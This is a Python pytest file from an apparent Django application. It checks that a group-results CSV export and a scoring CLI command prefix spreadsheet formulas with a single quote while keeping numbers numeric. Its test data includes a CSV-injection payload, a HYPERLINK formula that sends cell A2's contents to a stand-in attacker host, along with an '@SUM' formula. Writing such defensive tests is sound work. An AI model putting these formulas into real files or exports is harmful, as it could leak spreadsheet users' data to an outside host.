"""Issue #9 finding 7: the group results CSV and `instruments score` carry no formulas.

Text a spreadsheet would run gets the OWASP single-quote prefix; scores are numbers and
stay numbers, negative ones included.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from trajectwijzer.accounts.models import Role
from trajectwijzer.cli import main
from trajectwijzer.testing import make_group, make_member

from .builders import definition, full_answers, learner_in_group, submitted

pytestmark = pytest.mark.django_db


def test_served_group_csv_prefixes_a_formula_group_name_and_keeps_numbers(client):
    group = make_group(name='=HYPERLINK("http://evil.example/?"&A2,"open")')
    d = definition("survey_working_students")
    for n in range(1, 6):
        submitted(learner_in_group(group), "survey_working_students", full_answers(d, n))
    client.force_login(make_member(Role.PROVIDER_ADMIN, group.programme.provider.organisation))

    reply = client.get(
        reverse("instruments:group_csv", args=["survey_working_students", "group", group.pk])
    )

    assert reply.status_code == 200 and reply["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(reply.content.decode())))
    assert rows and all(row["group"].startswith("'=HYPERLINK(") for row in rows)
    row = next(row for row in rows if row["dimension"] == "self_regulation")
    assert (row["n"], row["mean"], row["sd"]) == ("5", "3.0000", "1.5811")


def test_score_output_prefixes_a_formula_respondent_and_keeps_negative_scores(tmp_path, capsys):
    responses = tmp_path / "r.csv"
    responses.write_text("respondent,family,work,time,location,price,admission,health,age,schooling\n"
                         "@SUM(A1),stimulating,hindering,hindering,not_applicable,hindering,"
                         "not_applicable,not_applicable,stimulating,stimulating\n")  # fmt: skip

    assert main(["instruments", "score", "factor_interview", "--responses", str(responses)]) == 0

    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
    assert row["respondent"] == "'@SUM(A1)"
    assert row["f_work"] == "-1"  # a number, not text: no prefix
